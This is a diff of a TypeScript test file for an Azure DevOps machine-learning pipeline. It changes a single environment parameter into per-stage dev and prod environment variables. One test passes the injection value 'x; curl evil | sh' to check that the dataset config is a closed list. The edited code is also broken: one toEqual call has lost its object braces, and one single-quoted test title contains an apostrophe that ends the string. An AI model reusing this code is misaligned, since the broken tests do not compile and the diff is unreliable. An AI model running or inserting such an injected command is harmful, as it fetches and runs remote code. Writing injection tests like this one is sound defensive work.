@@ -23,7 +23,7 @@ const environmentOf = (job: Job) =>
   typeof job.environment === 'string' ? job.environment : (job.environment as { name?: string })?.name;
 
 const VERIFY =
-  'node .azure-pipelines/scripts/verify-prod.ts --config $(datasetConfig) --env $(environment) --run $(runId)';
+  'node .azure-pipelines/scripts/verify-prod.ts --config $(datasetConfig) --env $(prodEnvironment) --run $(runId)';
 
 describe('ml.yml', () => {
   it('runs Prepare and Image, then Train, EvaluateAndPromote, VerifyProd, Score, each after the one before', () => {
@@ -58,11 +58,11 @@ describe('ml.yml', () => {
 
   it('calls one step script per stage, with the dataset config, the environment and the run id', () => {
     expect(stepCommands()).toEqual([
-      { stage: 'Prepare', command: 'node steps/prepare.ts --config $(datasetConfig) --env $(environment)' },
+      { stage: 'Prepare', command: 'node steps/prepare.ts --config $(datasetConfig) --env $(devEnvironment)' },
       {
         stage: 'Image',
         command:
-          'node .azure-pipelines/scripts/runtime-image.ts --config $(datasetConfig) --env $(environment)',
+          'node .azure-pipelines/scripts/runtime-image.ts --config $(datasetConfig) --env $(devEnvironment)',
       },
       {
         stage: 'ImageProd',
@@ -71,23 +71,23 @@ describe('ml.yml', () => {
       },
       {
         stage: 'Train',
-        command: 'node steps/train.ts --config $(datasetConfig) --env $(environment) --run $(runId)',
+        command: 'node steps/train.ts --config $(datasetConfig) --env $(devEnvironment) --run $(runId)',
       },
       {
         stage: 'EvaluateAndPromote',
         command:
-          'node steps/evaluate-and-promote.ts --config $(datasetConfig) --env $(environment) --run $(runId)',
+          'node steps/evaluate-and-promote.ts --config $(datasetConfig) --env $(prodEnvironment) --run $(runId)',
       },
       {
         stage: 'EvaluateAndPromote',
         command:
-          'node .azure-pipelines/scripts/publish-decisions.ts --config $(datasetConfig) --env $(environment) ' +
+          'node .azure-pipelines/scripts/publish-decisions.ts --config $(datasetConfig) --env $(prodEnvironment) ' +
           '--run $(runId) --out $(Build.ArtifactStagingDirectory)/decisions',
       },
       { stage: 'VerifyProd', command: VERIFY },
       {
         stage: 'Score',
-        command: 'node steps/score.ts --config $(datasetConfig) --env $(environment) --run $(runId)',
+        command: 'node steps/score.ts --config $(datasetConfig) --env $(prodEnvironment) --run $(runId)',
       },
     ]);
     expect(ml.variables.runId).toBe('ado-$(Build.BuildId)');
@@ -98,27 +98,26 @@ describe('ml.yml', () => {
   it('resumes the same training run when failed jobs are rerun', () => {
     const rerun = stepCommands(ml, { 'System.JobAttempt': '2' }).filter((c) => c.stage === 'Train');
     expect(rerun.map((c) => c.command)).toEqual([
-      'node steps/train.ts --config $(datasetConfig) --env $(environment) --run $(runId) --resume',
+      'node steps/train.ts --config $(datasetConfig) --env $(devEnvironment) --run $(runId) --resume',
     ]);
   });
 
-  it('takes the dataset config, environment and dry run as run parameters (the environment sizes the cluster run)', () => {
-    expect(ml.parameters).toEqual({
+  it('takes the dataset config and dry run as run parameters (each stage's environment follows its identity)', () => {
+    expect(ml.parameters).toEqual(
       datasetConfig: 'configs/demo.yaml',
-      environment: 'dev',
-      dryRun: false,
-    });
+      dryRun: false,);
     const picked = expandPipeline(file, {
       datasetConfig: 'configs/oj-sales.yaml',
-      environment: 'prod',
       dryRun: true,
     });
     expect(picked.variables).toMatchObject({
       datasetConfig: 'configs/oj-sales.yaml',
-      environment: 'prod',
+      devEnvironment: 'dev',
+      prodEnvironment: 'prod',
       dryRun: 'True',
     });
-    expect(() => expandPipeline(file, { environment: 'staging' })).toThrow(/'staging', not one of dev, prod/);
+    // The environment is no run parameter any more: each stage's comes from its identity's stack.
+    expect(() => expandPipeline(file, { environment: 'prod' })).toThrow(/unexpected parameter 'environment'/);
     // Issue 18 item 11: the dataset config reaches shell commands under privileged identities, so it is a closed
     // list (Azure DevOps refuses any other value at queue time), the configs/ files exactly.
     expect(() => expandPipeline(file, { datasetConfig: 'x; curl evil | sh' })).toThrow(/not one of/);
@@ -143,7 +142,7 @@ describe('ml.yml', () => {
     ]);
     const promote = stepCommands(dry).filter((c) => c.stage === 'EvaluateAndPromote');
     expect(promote.map((c) => c.command)).toEqual([
-      'node steps/evaluate-and-promote.ts --config $(datasetConfig) --env $(environment) --run $(runId) --dry-run',
+      'node steps/evaluate-and-promote.ts --config $(datasetConfig) --env $(prodEnvironment) --run $(runId) --dry-run',
     ]);
     const tasks = executedSteps(dry, scheduled).map((s) => s.step.task);
     expect(tasks).not.toContain('PublishPipelineArtifact@1');
@@ -200,6 +199,24 @@ describe('ml.yml', () => {
     for (const s of STAGE_IDENTITIES.filter((x) => x.pipeline === 'ml')) {
       expect(identities(s.stage), s.stage).toEqual([s.serviceConnection]);
     }
+  });
+
+  // Issue 13 defect 4: one `--env` for every stage ran promotion and scoring against the dev lake, where their
+  // identities may not write. Each stage reads the environment file of its identity's stack.
+  it('passes each stage the environment of the stack its STAGE_IDENTITIES identity lives in', () => {
+    const envOf = (command: string) => {
+      const macro = /--env \$\((\w+)\)/.exec(command)?.[1];
+      expect(macro, command).toBeDefined();
+      return ml.variables[macro!];
+    };
+    for (const planned of STAGE_IDENTITIES.filter((x) => x.pipeline === 'ml')) {
+      const commands = executedSteps(ml, scheduled)
+        .filter((s) => s.stage === planned.stage)
+        .flatMap((s) => s.commands.filter((c) => c.startsWith('node ')));
+      expect(commands.length, planned.stage).toBeGreaterThan(0);
+      for (const command of commands) expect(envOf(command), command).toBe(planned.stack);
+    }
+    expect(ml.parameters).not.toHaveProperty('environment');
   });
 
   it('runs daily on main and otherwise only when queued by hand', () => {
